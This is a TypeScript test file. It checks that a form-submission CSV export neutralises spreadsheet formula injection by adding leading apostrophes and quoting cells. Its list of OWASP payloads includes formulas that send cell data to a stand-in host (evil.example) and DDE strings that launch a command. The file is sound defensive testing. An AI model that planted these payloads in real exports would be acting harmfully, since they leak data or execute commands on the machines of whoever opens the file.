import { describe, expect, it } from 'vitest';
import { submissionsCsv } from './export.ts';
import type { Submission } from './store.ts';
import { parseCsv } from '../../generator/content/csv.ts';

/** The export as a spreadsheet reads it, with the site's own CSV parser: the header, then each record's cells. */
function csvCells(text: string): string[][] {
  const { header, rows } = parseCsv(text);
  return [header, ...rows.map((row) => header.map((name) => row.values[name]!))];
}

const submission = (name: string): Submission => ({ id: 'id', form: 'waitlist', receivedAt: '2026-01-01T00:00:00.000Z', fields: { name, email: 'a@example.com', zip: '08540' } });

describe('CSV export', () => {
  // OWASP's CSV-injection payloads: each kind of leading character a spreadsheet runs.
  const payloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",B2),"//a")',
  ];

  it('neutralises every formula payload with a leading apostrophe, keeping the text', () => {
    const rows = csvCells(submissionsCsv(payloads.map(submission))).slice(1);
    expect(rows.map((r) => r[3])).toEqual(payloads.map((p) => `'${p}`));
  });

  it('leaves ordinary values as they were', () => {
    const plain = ['Ada', 'Jean-Luc', "O'Neil", 'a@b in the middle', ' 1+1'];
    const rows = csvCells(submissionsCsv(plain.map(submission))).slice(1);
    expect(rows.map((r) => r[3])).toEqual(plain);
  });

  it('quotes every cell, so a spreadsheet splitting on ; or a tab finds no formula either', () => {
    const values = ['x;=1+1', 'x\t=1+1', 'a;b;@SUM(1+1)', 'x| =1+1'];
    const text = submissionsCsv(values.map(submission));
    for (const separator of [';', '\t', ',']) {
      const cells = text.trim().split('\r\n').flatMap((line) => splitQuoted(line, separator));
      expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    }
    expect(csvCells(text).slice(1).map((r) => r[3])).toEqual(values);
  });
});

/** A CSV line's cells as a spreadsheet with `separator` as its list separator reads them (quotes kept together). */
function splitQuoted(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (c === '"' && quoted && line[i + 1] === '"') cell += line[++i];
    else if (c === '"') quoted = !quoted;
    else if (c === separator && !quoted) cells.push(cell), (cell = '');
    else cell += c;
  }
  return [...cells, cell];
}
